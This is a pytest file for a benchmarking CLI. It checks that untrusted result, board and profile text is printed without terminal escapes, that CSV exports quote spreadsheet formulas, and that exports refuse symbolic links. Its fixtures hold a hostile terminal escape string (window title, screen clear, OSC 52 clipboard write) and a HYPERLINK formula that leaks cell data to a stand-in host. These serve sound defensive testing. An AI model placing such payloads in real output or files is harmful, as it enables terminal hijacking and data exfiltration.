"""Text from results, boards and profiles is untrusted (issue 22): printed without the control
characters a terminal acts on, exported to CSV without cells a spreadsheet runs as formulas, and
no export is written through a symbolic link."""

from __future__ import annotations

import csv
import json
import os

import polars as pl
import pytest

from edgetui.errors import UserError
from edgetui.fmt import printable, spreadsheet_text, spreadsheet_text_back

from conftest import run_cli
from result_rows import make_row, write_run

# a window title set, the screen cleared, the clipboard written (OSC 52), an 8-bit CSI
HOSTILE = "\x1b]0;pwned\x07\x1b[2J\x1b]52;c;ZWNobyBwd25lZA==\x07evil\x9b31m"
CONTROL = {*map(chr, range(0x20)), *map(chr, range(0x7F, 0xA0))} - {"\n", "\t"}
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def no_control(text: str) -> bool:
    return not (set(text) & CONTROL)


def test_printable_writes_every_control_character_as_a_visible_escape():
    assert printable("a\x1bb\x9bc\x07d\re\x00f\x7f") == "a\\x1bb\\x9bc\\x07d\\x0de\\x00f\\x7f"
    assert printable("line one\n\tline two") == "line one\n\tline two"  # a block keeps its lines
    assert printable("a\nb\tc", lines=False) == "a\\x0ab\\x09c"  # one cell does not
    assert printable("Jetson Orin · 中文 · ü · 😀") == "Jetson Orin · 中文 · ü · 😀"  # text is text
    assert no_control(printable(HOSTILE)) and "evil" in printable(HOSTILE)


@pytest.fixture
def hostile_run(tmp_path):
    measured = dict(ttft_ms_mean=100.0, power_w_mean=5.0)
    rows = [make_row("a", board=f"pi5{HOSTILE}", model=FORMULA, decode_tps_mean=20.0, n_gpu_layers=-1, **measured),
            make_row("b", board="+SUM(1,2)", model=f"@cmd{HOSTILE}", decode_tps_mean=10.0, n_gpu_layers=-1, **measured),
            make_row("c", board="rock5b", model="'quoted", decode_tps_mean=5.0, n_gpu_layers=0, **measured)]
    return write_run(tmp_path / "run", rows)


def test_rank_prints_names_from_a_results_file_without_terminal_escapes(hostile_run):
    p = run_cli("rank", str(hostile_run))
    assert p.returncode == 0, p.stderr
    assert no_control(p.stdout)
    assert "\\x1b]0;pwned\\x07" in p.stdout and "evil" in p.stdout  # shown, as text


def test_status_and_errors_print_text_from_a_run_folder_without_terminal_escapes(tmp_path):
    from edgetui.rundir.store import RunStore

    run = tmp_path / f"run{HOSTILE}"
    RunStore(run).write_manifest({"status": f"finished{HOSTILE}", "n_configs": 1})
    p = run_cli("status", str(run))
    assert p.returncode == 0, p.stderr
    assert no_control(p.stdout) and "finished\\x1b" in p.stdout
    bad = tmp_path / f"not a run{HOSTILE}"
    bad.mkdir()
    (bad / "results.csv").write_text("config_id,decode_tps\nx,fast\x1b[2J\n")
    p = run_cli("rank", str(bad))
    assert p.returncode == 2 and p.stderr and no_control(p.stderr)


def test_the_fleets_lines_print_a_boards_text_without_terminal_escapes(tmp_path, capsys):
    from edgetui.cli import _resilient_print
    from edgetui.fleet.layout import FleetDir

    say = _resilient_print()  # what `fleet run --headless` prints each board's events with
    say(f"[b1] failed: {HOSTILE}")
    out = capsys.readouterr().out
    assert no_control(out) and "[b1] failed: \\x1b" in out

    fd = FleetDir(tmp_path / "fleet")
    fd.root.mkdir()
    fd.write_manifest({"hosts": ["b1"], "profiles": [f"p{HOSTILE}.toml"], "inventory": "inv.ini"})
    fd.set_host("b1", "failed", detail=f"the board said {HOSTILE}", say=False)
    p = run_cli("fleet", "status", str(fd.root))
    assert p.returncode == 0, p.stderr
    assert no_control(p.stdout) and "the board said \\x1b" in p.stdout


def test_spreadsheet_text_quotes_a_formula_and_comes_off_exactly():
    for cell in ("=1+1", "+1", "-1 + x", "@SUM(A1)", "\tx", "\rx", "'kept", FORMULA):
        assert spreadsheet_text(cell).startswith("'") and spreadsheet_text_back(spreadsheet_text(cell)) == cell
    for cell in ("smollm2-135m", "pi5", "", "1=1"):
        assert spreadsheet_text(cell) == cell


def test_a_csv_export_has_no_formula_cell_and_reads_back_as_it_was(hostile_run, tmp_path):
    from edgetui.ranking.criteria import DEFAULT_WEIGHTS
    from edgetui.ranking.export import export_ranking, load_ranking_export
    from edgetui.ranking.rank import rank
    from edgetui.ranking.sources import load_results

    ranking = rank(load_results([hostile_run]), dict(DEFAULT_WEIGHTS))
    out = export_ranking(ranking, tmp_path / "ranking.csv")
    with out.open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    cells = [v for r in rows for k, v in r.items() if v]
    models = {r["config_id"]: r["model"] for r in rows}
    assert models["a"] == "'" + FORMULA and models["b"].startswith("'@cmd") and models["c"] == "''quoted"
    assert {r["board"] for r in rows} >= {"'+SUM(1,2)"}
    assert {r["n_gpu_layers"] for r in rows} == {"-1", "0"}  # a number is a number, minus and all
    for v in cells:
        assert not v.startswith(("=", "+", "@", "\t", "\r")), v
        assert not v.startswith("-") or float(v) < 0, v  # only negative numbers begin with a minus
    assert "text_cells" in (tmp_path / "ranking.csv.meta.toml").read_text()
    back = load_ranking_export(out)
    assert back.table["model"].to_list() == ranking.table["model"].to_list()
    assert back.table["board"].to_list() == ranking.table["board"].to_list()


def test_the_llama_bench_csv_has_no_formula_cell(tmp_path):
    from edgetui.ranking.llamabench import to_csv

    text = to_csv([{"model_filename": FORMULA, "cpu_info": "+x", "n_gpu_layers": -1, "flash_attn": -1,
                    "edgetui_board": "pi5"}])
    row = list(csv.DictReader(text.splitlines()))[0]
    assert row["model_filename"] == "'" + FORMULA and row["cpu_info"] == "'+x"
    assert row["n_gpu_layers"] == "-1" and row["flash_attn"] == "-1" and row["edgetui_board"] == "pi5"


@pytest.mark.parametrize("dangling", [True, False])
def test_no_export_writes_through_a_symbolic_link(hostile_run, tmp_path, dangling):
    target_dir = tmp_path / "elsewhere"
    target_dir.mkdir()
    for args, name in ((["plot", str(hostile_run), "--out"], "fig.svg"),
                       (["rank", str(hostile_run), "--export"], "ranking.csv"),
                       (["rank", str(hostile_run), "--export"], "ranking.toml"),
                       (["export", str(hostile_run), "--format", "json", "--out"], "bench.json")):
        target = target_dir / name
        if not dangling:
            target.write_text("precious")
        link = tmp_path / f"link-{name}"
        link.symlink_to(target)
        p = run_cli(*args, str(link), "--force")
        assert p.returncode == 2, (args, p.stdout, p.stderr)
        assert "symbolic link" in p.stderr and str(link) in p.stderr
        assert link.is_symlink() and os.readlink(link) == str(target)
        if dangling:
            assert not target.exists()
        else:
            assert target.read_text() == "precious"
    assert sorted(p.name for p in target_dir.iterdir()) == ([] if dangling else
                                                            ["bench.json", "fig.svg", "ranking.csv", "ranking.toml"])


def test_the_export_writer_itself_refuses_a_link_made_after_a_callers_check(tmp_path):
    from edgetui.ranking.outfile import check_target, write_export_text

    link, target = tmp_path / "out.json", tmp_path / "target.json"
    check_target(link, force=False)
    link.symlink_to(target)  # made between the check and the write
    with pytest.raises(UserError, match="symbolic link"):
        write_export_text(link, "{}", force=True)
    assert not target.exists()
    # without a link, the file of that name is written
    plain = tmp_path / "plain.json"
    assert write_export_text(plain, json.dumps({"a": 1}), force=False) == plain
    assert json.loads(plain.read_text()) == {"a": 1} and not plain.is_symlink()


def test_polars_and_the_helper_agree_on_the_rule():
    from edgetui.ranking.export import spreadsheet_safe, spreadsheet_safe_back

    cells = ["=a", "+b", "-c", "@d", "\te", "\rf", "'g", "h", "", None]
    df = pl.DataFrame({"t": cells, "n": list(range(-5, 5))})
    safe = spreadsheet_safe(df)
    assert safe["t"].to_list() == [None if c is None else spreadsheet_text(c) for c in cells]
    assert safe["n"].to_list() == df["n"].to_list()
    assert spreadsheet_safe_back(safe)["t"].to_list() == cells
